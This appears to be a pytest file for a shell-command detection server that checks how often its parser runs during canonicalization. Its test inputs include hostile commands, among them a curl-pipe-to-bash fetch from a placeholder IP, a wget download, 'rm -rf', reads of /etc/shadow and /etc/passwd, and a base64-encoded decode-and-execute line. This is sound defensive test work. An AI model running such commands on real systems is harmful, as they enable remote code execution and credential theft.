"""A served line is parsed once, counted by ``Parser.parse`` calls.

``service.preprocess`` parses every event to decide validity; on a
front-memo miss the shard hands that AST to the canonicalizer, which
rewrites it to a fixed point without re-parsing its own output.  So a
batch of N distinct, valid, non-trivial lines costs exactly N parses —
all of them the validity parse — and a decode-exec line adds exactly
one, for its decoded payload.  A repeat pass hits the memo and costs the
N validity parses only.
"""

import asyncio

import pytest

from repro.preprocess.canonicalize import Canonicalizer, _trivially_canonical
from repro.serving import DetectionServer
from repro.serving.config import (
    BackendConfig,
    BatchConfig,
    CanonicalizeConfig,
    ServingConfig,
)
from repro.shell.parser import Parser

#: Valid lines past the canonicalizer's no-parse shortcut (quoting,
#: ``$IFS``, wrappers, standard paths, flag order, operators); none
#: decodes a payload or splices an ``eval``.
LINES = [
    "ls -r -l -a /tmp",
    "c'a't /etc/shadow",
    'cat "/etc/passwd" | grep root',
    "cat${IFS}/etc/hosts",
    "/bin/ls -la /var/log",
    "env A=1 B=2 python3 -m http.server",
    "command id && whoami",
    "curl -s http://203.0.113.5/p.sh | bash",
    "tar -z -x -v -f /tmp/a.tgz; rm -rf /tmp/a",
    "(cd /tmp && wget -q http://198.51.100.7/x) 2> /dev/null",
]

#: ``echo <base64 of "cat /etc/shadow"> | base64 -d | sh``.
DECODE_EXEC = "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh"


@pytest.fixture
def parses(monkeypatch):
    """Every ``Parser.parse`` call, as the parser instance that made it."""
    calls: list[Parser] = []
    parse = Parser.parse

    def counting(self, line):
        calls.append(self)
        return parse(self, line)

    monkeypatch.setattr(Parser, "parse", counting)
    return calls


def run_passes(service, parses, lines, passes, submit):
    """Submit *lines* once per pass; per pass, the *parses* it made."""

    async def scenario():
        config = ServingConfig(
            batch=BatchConfig(max_latency_ms=1),
            backend=BackendConfig(compiled=False),
            canonicalize=CanonicalizeConfig(enabled=True),
        )
        async with DetectionServer(service, config) as server:
            runtime = server.shards[0]
            per_pass = []
            for _ in range(passes):
                start = len(parses)
                results = await submit(server, runtime, lines)
                per_pass.append(parses[start:])
                assert [result.line for result in results] == canonical(lines)
            return runtime, per_pass

    return asyncio.run(scenario())


def canonical(lines):
    """The keys a canonicalizer that parses each line itself computes."""
    reference = Canonicalizer()
    return [reference.canonicalize(line).text for line in lines]


async def batch(server, runtime, lines):
    return await runtime.process_batch(
        [(line, f"host-{i % 3}", 1000.0 + i) for i, line in enumerate(lines)]
    )


async def per_event(server, runtime, lines):
    return [await server.submit(line, host="h", timestamp=1.0) for line in lines]


def test_stream_is_what_the_count_needs(demo_service):
    normalized = [demo_service.preprocess(line) for line in LINES]
    assert normalized == LINES  # valid, and already normalized
    assert not any(_trivially_canonical(line) for line in LINES)


@pytest.mark.parametrize("submit", [batch, per_event], ids=["process_batch", "process"])
def test_a_miss_parses_once_and_a_hit_only_for_validity(demo_service, parses, submit):
    runtime, (first, second) = run_passes(demo_service, parses, LINES, 2, submit)
    canonicalizer_parser = runtime.canonicalizer._parser
    n = len(LINES)
    assert len(first) == n  # up to 3n before the validity AST was handed over
    assert canonicalizer_parser not in first
    assert len(second) == n and canonicalizer_parser not in second
    assert runtime.metrics.front_memo_misses == n


def test_decode_exec_adds_one_parse_for_its_payload(demo_service, parses):
    runtime, (first,) = run_passes(demo_service, parses, LINES + [DECODE_EXEC], 1, batch)
    canonicalizer_parser = runtime.canonicalizer._parser
    assert len(first) == len(LINES) + 2
    assert first.count(canonicalizer_parser) == 1  # the payload
    assert runtime.metrics.canonicalize_decoded == 1
